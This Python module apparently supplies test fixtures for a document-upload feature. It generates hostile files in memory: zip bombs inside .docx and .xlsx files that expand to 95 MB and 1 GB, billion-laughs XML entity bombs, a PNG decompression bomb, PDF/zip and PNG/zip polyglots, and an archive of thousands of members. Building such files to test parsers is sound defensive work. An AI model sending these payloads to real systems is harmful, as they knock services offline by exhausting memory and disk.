"""Hostile upload files, built in memory in a fraction of a second: zip bombs (a 95 MB Word
document.xml in a ~0.4 MB .docx, 1 GB of sheet XML in a ~4 MB .xlsx), billion laughs inside an
.xlsx and a .docx, a sheet of 200,001 rows, polyglots and a zip of thousands of members.

The bombs are written with a small zip writer of our own: a 1 MB block is deflated once with a
full flush (byte-aligned, no back references into earlier data), so the same compressed bytes
repeated N times are a valid deflate stream of the block repeated N times. Building the 1 GB
bomb then costs one CRC pass, not 1 GB of compression.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

MB = 1024 * 1024
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROSTER_HEADER = ["Họ và tên", "Ngày sinh", "Giới tính", "Số CCCD"]


@dataclass
class Repeated:
    """`head` + `block` × `times` + `tail`, deflated without building it."""

    head: bytes
    block: bytes
    times: int
    tail: bytes

    @property
    def size(self) -> int:
        return len(self.head) + len(self.block) * self.times + len(self.tail)


def _deflate_repeated(part: Repeated) -> tuple[bytes, int]:
    """(raw deflate stream, CRC-32) of a Repeated part."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = comp.compress(part.head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(part.block) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = comp.compress(part.tail) + comp.flush()
    crc = zlib.crc32(part.head)
    for _ in range(part.times):
        crc = zlib.crc32(part.block, crc)
    crc = zlib.crc32(part.tail, crc)
    return head + block * part.times + tail, crc


def zip_bytes(members: list[tuple[str, bytes | Repeated]], *, prefix: bytes = b"") -> bytes:
    """A zip archive (deflated members); `prefix` is written before it, as polyglots do."""
    out = io.BytesIO()
    out.write(prefix)
    central = []
    for name, content in members:
        if isinstance(content, Repeated):
            data, crc = _deflate_repeated(content)
            size = content.size
        else:
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            data = comp.compress(content) + comp.flush()
            crc, size = zlib.crc32(content), len(content)
        raw_name = name.encode()
        offset = out.tell() - len(prefix)
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, 0x800, 8, 0, 0x21, crc, len(data), size, len(raw_name), 0
            )
        )
        out.write(raw_name)
        out.write(data)
        central.append(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0x800,
                8,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(raw_name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw_name
        )
    start = out.tell() - len(prefix)
    directory = b"".join(central)
    out.write(directory)
    out.write(
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0)
    )
    return out.getvalue()


def _members_of(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def _plain_docx() -> list[tuple[str, bytes]]:
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    return _members_of(out.getvalue())


def _plain_xlsx() -> list[tuple[str, bytes]]:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "Danh sách"
    wb.active["A1"] = "Họ và tên"
    out = io.BytesIO()
    wb.save(out)
    return _members_of(out.getvalue())


def _replace(members: list[tuple[str, bytes]], name: str, content: bytes | Repeated) -> list:
    return [(n, content if n == name else c) for n, c in members]


# -- zip bombs ---------------------------------------------------------------------------------


def docx_bomb(expanded: int = 95 * MB) -> bytes:
    """A Word file whose document.xml is `expanded` bytes of one repeated paragraph."""
    para = (
        '<w:p><w:r><w:t xml:space="preserve">Kế hoạch tổ chức phong trào thi đua năm 2025 của '
        "Công đoàn Viên chức tỉnh. </w:t></w:r></w:p>"
    ).encode()
    block = para * (MB // len(para))
    head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{W_NS}"><w:body>'
    body = Repeated(
        head.encode(), block, max(1, expanded // len(block)), b"<w:sectPr/></w:body></w:document>"
    )
    return zip_bytes(_replace(_plain_docx(), "word/document.xml", body))


def xlsx_bomb(expanded: int = 1024 * MB) -> bytes:
    """An .xlsx whose first sheet is `expanded` bytes of the same roster row, over and over."""
    cells = "".join(
        f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in ("Nguyễn Văn An", "01/01/1990", "Nam", "")
    )
    row = f"<row>{cells}</row>".encode()
    block = row * (MB // len(row))
    header = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in ROSTER_HEADER)
    head = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{S_NS}">'
        f"<sheetData><row>{header}</row>"
    ).encode()
    sheet = Repeated(head, block, max(1, expanded // len(block)), b"</sheetData></worksheet>")
    return zip_bytes(_replace(_plain_xlsx(), "xl/worksheets/sheet1.xml", sheet))


# -- billion laughs ------------------------------------------------------------------------------

LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
).encode()


def xlsx_laughs() -> bytes:
    """An .xlsx whose sheet declares the billion-laughs entities and uses the last one."""
    sheet = (
        LAUGHS.decode()
        + f'<worksheet xmlns="{S_NS}"><sheetData><row><c t="inlineStr"><is><t>&lol9;</t></is></c>'
        + "</row></sheetData></worksheet>"
    )
    return zip_bytes(_replace(_plain_xlsx(), "xl/worksheets/sheet1.xml", sheet.encode()))


def docx_laughs() -> bytes:
    """A .docx whose document.xml declares the billion-laughs entities and uses the last one."""
    doc = (
        LAUGHS.decode()
        + f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
    )
    return zip_bytes(_replace(_plain_docx(), "word/document.xml", doc.encode()))


# -- big but honest sheets ---------------------------------------------------------------------------


def xlsx_rows(rows: int) -> bytes:
    """A plain roster .xlsx of `rows` data rows under the header (deflated normally)."""
    header = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in ROSTER_HEADER)
    body = "".join(
        f'<row r="{n}"><c t="inlineStr"><is><t>Nguyễn Văn {n}</t></is></c>'
        f'<c t="inlineStr"><is><t>01/01/1990</t></is></c><c t="inlineStr"><is><t>Nam</t></is></c>'
        f'<c t="inlineStr"><is><t>0450900{n:05d}</t></is></c></row>'
        for n in range(2, rows + 2)
    )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{S_NS}">'
        f'<sheetData><row r="1">{header}</row>{body}</sheetData></worksheet>'
    )
    return zip_bytes(_replace(_plain_xlsx(), "xl/worksheets/sheet1.xml", sheet.encode()))


def zip_of_many(members: int = 5000) -> bytes:
    """A real .xlsx with thousands of tiny extra members."""
    extra = [(f"xl/media/x{i}.bin", b"x") for i in range(members)]
    return zip_bytes(_plain_xlsx() + extra)


# -- polyglots --------------------------------------------------------------------------------------

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)


def pdf_with_zip() -> bytes:
    """A PDF (header at byte 0) followed by a whole .xlsx: a PDF reader and a zip reader both open it."""
    return zip_bytes(_plain_xlsx(), prefix=PDF)


def png_with_zip() -> bytes:
    """A valid 1×1 PNG with a zip archive appended."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (1, 1)).save(out, "PNG")
    return zip_bytes([("a.txt", b"hidden")], prefix=out.getvalue())


def html_table() -> bytes:
    """What old software saves as "Excel": a web page with a table."""
    return (
        "<html><head><meta charset='utf-8'></head><body><table><tr><td>Họ và tên</td><td>Số CCCD</td></tr>"
        "<tr><td>Nguyễn Văn An</td><td>045090000001</td></tr></table></body></html>"
    ).encode()


def csv_text() -> bytes:
    return "Họ và tên,Ngày sinh,Giới tính,Số CCCD\nNguyễn Văn An,01/01/1990,Nam,045090000001\n".encode()


def png_bomb(side: int = 30000) -> bytes:
    """A PNG declaring side × side pixels (900 M) in a few kB: a bomb for anything that decodes it."""
    raw_row = b"\x00" + b"\x00" * side
    comp = zlib.compressobj(9)
    block = comp.compress(raw_row * 64) + comp.flush(zlib.Z_FULL_FLUSH)
    idat = block * (side // 64) + comp.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    header = struct.pack(">2L5B", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
